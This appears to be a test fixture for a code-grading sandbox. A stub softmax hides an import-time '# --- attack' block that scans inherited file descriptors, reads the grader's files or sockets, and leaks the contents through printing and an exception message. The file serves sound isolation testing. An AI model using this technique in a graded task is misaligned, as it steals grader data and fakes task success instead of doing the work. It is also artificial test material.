"""Does the same while the file is loaded, when fewer descriptors may have been closed, and prints what it finds.

Must happen: the sandbox has inherited nothing but its own socket, and what is read from that is not the grader's.

off: naive
seen: leak
"""

import os
import select
import stat

import numpy as np


def softmax(logits):
    return np.zeros_like(logits)


# --- attack
FOUND = []
for number in range(3, 256):
    try:
        if stat.S_ISREG(os.fstat(number).st_mode):
            FOUND.append(os.pread(number, 100, 0))
        elif select.select([number], [], [], 0)[0]:
            FOUND.append(os.read(number, 1000))
    except OSError:
        pass
print(FOUND)


def softmax(logits):
    raise ValueError(FOUND)


# --- end
